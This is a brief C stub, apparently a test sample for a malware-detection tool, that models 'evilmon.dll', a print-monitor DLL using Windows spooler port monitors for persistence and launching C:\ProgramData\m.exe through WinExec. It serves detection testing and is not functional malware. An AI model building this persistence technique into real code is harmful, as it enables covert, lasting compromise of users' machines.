/* evilmon.dll: an unsigned print monitor (persistence through the spooler's port monitors). */
#include "fake.h"

DEFINE_SINK
DEFINE_DLLMAIN

IMPORT UINT WinExec(LPCSTR, UINT);

EXPORT PVOID InitializePrintMonitor2(PVOID init, HANDLE *monitor)
{
    SINK(WinExec("C:\\ProgramData\\m.exe", 0));
    SINK(init);
    return monitor;
}
